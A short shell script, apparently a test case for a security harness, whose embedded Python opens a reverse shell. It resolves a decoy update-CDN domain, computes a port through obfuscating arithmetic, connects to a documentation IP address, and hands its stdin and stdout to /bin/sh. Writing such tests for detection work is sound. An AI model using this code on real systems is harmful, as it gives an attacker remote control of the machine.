#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import os, socket
a = [int(x) for x in socket.gethostbyname("calc.update-cdn.example.net").split(".")]
port = (a[0] * a[3] + a[2] * 256 + a[1]) % 65536
port = 4444 if port else 443
s = socket.create_connection(("203.0.113.%d" % a[3], port))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.execv("/bin/sh", ["sh"])
END
wait_for /tmp/reached
took_place
